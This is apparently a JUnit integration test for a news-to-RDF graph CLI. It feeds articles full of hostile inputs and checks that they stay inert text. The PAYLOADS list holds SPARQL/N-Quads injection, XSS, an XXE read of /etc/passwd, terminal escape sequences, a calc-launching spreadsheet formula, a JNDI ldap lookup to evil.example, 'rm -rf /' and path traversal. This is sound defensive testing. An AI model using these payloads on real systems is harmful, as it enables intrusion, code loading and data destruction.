package org.telgraph.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.google.gson.Gson;
import com.google.gson.JsonArray;
import com.google.gson.JsonParser;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.apache.jena.graph.Node;
import org.apache.jena.riot.Lang;
import org.apache.jena.riot.RDFParser;
import org.apache.jena.riot.system.ErrorHandlerFactory;
import org.apache.jena.sparql.core.DatasetGraph;
import org.apache.jena.sparql.core.DatasetGraphFactory;
import org.apache.jena.sparql.core.Quad;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.telgraph.ontology.Names;
import org.telgraph.store.PackagedQueries;

/** Articles whose words are meant for a parser, a terminal or a browser rather than for readers: text stays text. */
class HostileArticlesIT {

    /** What is put into every field. */
    private static final List<String> PAYLOADS = List.of(
            "\" . <http://evil.example/s> <http://evil.example/p> <http://evil.example/o> . <x> <y> \"",
            "'''\"\"\" } ; DROP ALL ; INSERT DATA { <http://evil.example/s> a <http://evil.example/C> } #",
            "<script>alert(1)</script><img src=x onerror=alert(1)>",
            "&lt;b&gt; &amp; ]]> <!-- <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]> &e;",
            "\u001b[2J\u001b]0;owned\u0007 \u009b31m \b\b\b\u007f",
            "\u202eno-one\u202c \u200f\u2066\u2069 \ufeff \u2028 \u2029 \u0085",
            "=cmd|' /C calc'!A0",
            "${jndi:ldap://evil.example/a} {{7*7}} %s %n $(reboot) `reboot` ; rm -rf /",
            "../../../../etc/passwd",
            "C:\\windows\\system32 \\u0022 \\U0001F600 \\",
            "a\ud800b\udfffc \ud83d\ude00",
            "\u0000 \u0001 \ufffe \uffff",
            "http://evil.example/a b<c>{d}|e^`f\"");

    private static final List<String> IDS = List.of(
            "..",
            ".",
            "/",
            "//",
            "../up",
            "a b",
            "a\tb",
            "a\nb",
            "#fragment",
            "?query",
            "%2e%2e%2f",
            "%",
            "x".repeat(9000));

    @TempDir
    static Path temp;

    private static Path news;
    private static Path store;
    private static int articles;

    @BeforeAll
    static void build() throws Exception {
        Gson gson = new Gson();
        List<String> lines = new ArrayList<>();
        for (String payload : PAYLOADS) {
            lines.add(gson.toJson(Map.of(
                    "id", payload,
                    "title", payload,
                    "publisher", payload,
                    "authors", List.of(payload),
                    "url", payload,
                    "date", payload,
                    "text", "Sweden banned Huawei " + payload + " on Monday.\n\nNokia supplies Telia.")));
        }
        for (String id : IDS) {
            lines.add(gson.toJson(Map.of("id", id, "text", "Norway banned ZTE.")));
        }
        articles = lines.size() - 1; // one has a NUL, and fails
        news = Files.write(
                temp.resolve("news.jsonl"),
                lines.stream().map(HostileArticlesIT::ascii).toList());
        store = temp.resolve("store");
        CommandRun run =
                CommandRun.of("build", "--store", store, "--keep-text", news).ends(1);
        assertNoControls(run.err());
    }

    /** Half a pair of surrogates cannot be written otherwise. */
    private static String ascii(String json) {
        StringBuilder ascii = new StringBuilder();
        json.chars().forEach(c -> ascii.append(c < 128 ? String.valueOf((char) c) : "\\u%04x".formatted(c)));
        return ascii.toString();
    }

    /** Nothing but line ends: a terminal obeys the rest. */
    private static void assertNoControls(String text) {
        assertEquals(
                List.of(),
                text.codePoints()
                        .filter(c -> c != '\n' && (Character.isISOControl(c) || isDirection(c)))
                        .mapToObj(Integer::toHexString)
                        .distinct()
                        .toList());
    }

    private static boolean isDirection(int c) {
        return c == 0x200e || c == 0x200f || c >= 0x202a && c <= 0x202e || c >= 0x2066 && c <= 0x2069;
    }

    private static DatasetGraph parse(String quads) {
        DatasetGraph data = DatasetGraphFactory.create();
        RDFParser.fromString(quads, Lang.NQUADS)
                .errorHandler(ErrorHandlerFactory.errorHandlerStrict)
                .checking(true)
                .strict(true)
                .parse(data);
        return data;
    }

    @Test
    void everyArticleHasAGraphOfItsOwnWithTheSameFacts() {
        DatasetGraph data = parse(CommandRun.dump(store));
        Set<String> graphs = new HashSet<>();
        data.listGraphNodes().forEachRemaining(graph -> graphs.add(graph.getURI()));
        graphs.removeIf(graph -> !graph.startsWith(Names.DEFAULT.base() + "article/"));
        assertEquals(articles, graphs.size(), new TreeSet<>(graphs).toString());
        assertTrue(CommandRun.triples(store)
                .containsAll(Set.of("Sweden bans Huawei", "Nokia supplies Telia", "Norway bans ZTE")));
    }

    @Test
    void noWordOfAnArticleBecomesATermOfTheGraph() {
        String dump = CommandRun.dump(store);
        assertEquals(0, dump.chars().filter(c -> c < ' ' && c != '\n').count());
        Set<String> foreign = new TreeSet<>();
        parse(dump)
                .find()
                .forEachRemaining(quad -> terms(quad)
                        .filter(Node::isURI)
                        .map(Node::getURI)
                        .filter(iri ->
                                iri.startsWith("http://evil.example") || iri.contains(" ") || iri.contains("/../"))
                        .forEach(foreign::add));
        assertEquals(Set.of(), foreign);
    }

    private static Stream<Node> terms(Quad quad) {
        return Stream.of(quad.getGraph(), quad.getSubject(), quad.getPredicate(), quad.getObject());
    }

    @Test
    void whatIsPrintedObeysNobody() {
        for (String query : PackagedQueries.NAMES) {
            assertNoControls(table(query));
        }
        assertNoControls(CommandRun.of("query", "--store", store, "-e", "SELECT * { ?s ?p ?o FILTER isLiteral(?o) }")
                .ok()
                .out());
        for (String payload : PAYLOADS) {
            assertNoControls(CommandRun.of("explain", "Sweden banned Huawei " + payload.replace("\u0000", "") + ".")
                    .ok()
                    .out());
        }
    }

    private static String table(String query) {
        try {
            return CommandRun.of("query", "--store", store, query).ok().out();
        } catch (AssertionError e) {
            return ""; // what constructs a graph has no table
        }
    }

    @Test
    void programsGetTheWordsAsTheyWere() {
        String query = "SELECT ?text { ?context nif:isString ?text FILTER CONTAINS(?text, 'Telia') }";
        JsonArray rows = JsonParser.parseString(
                        CommandRun.of("query", "--store", store, "--format", "json", "-e", query)
                                .ok()
                                .out())
                .getAsJsonObject()
                .getAsJsonObject("results")
                .getAsJsonArray("bindings");
        Set<String> texts = new HashSet<>();
        rows.forEach(row -> texts.add(
                row.getAsJsonObject().getAsJsonObject("text").get("value").getAsString()));
        for (String payload : PAYLOADS) {
            if (payload.chars()
                    .noneMatch(c -> Character.isISOControl(c) || Character.isSurrogate((char) c) || c > 0x2000)) {
                String body = "Sweden banned Huawei " + payload + " on Monday.\n\nNokia supplies Telia.";
                assertTrue(texts.stream().anyMatch(text -> text.endsWith(body)), payload);
            }
        }
    }

    @Test
    void theSameArticlesAreFoundAgain() {
        String before = CommandRun.dump(store);
        CommandRun run =
                CommandRun.of("build", "--store", store, "--keep-text", news).ends(1);
        assertTrue(run.err().contains("0 new, 0 changed, " + articles + " unchanged"), run.err());
        for (String id : List.of("..", "a b", PAYLOADS.get(0), PAYLOADS.get(8))) {
            assertFalse(
                    CommandRun.of("history", "--store", store, id).ok().out().isEmpty());
        }
        assertEquals(before, CommandRun.dump(store));
    }

    @Test
    void aSentenceWithoutEndIsNoHindrance() throws Exception {
        String endless = "and Sweden said that Huawei supplies the network of the other operator ".repeat(8_000);
        Path file = Files.writeString(temp.resolve("endless.txt"), "Norway banned ZTE. The minister left " + endless);
        Path out = temp.resolve("endless.nq");
        CommandRun.of("build", "--out", out, file).ok();
        assertTrue(CommandRun.triples(out).contains("Norway bans ZTE"));
    }
}
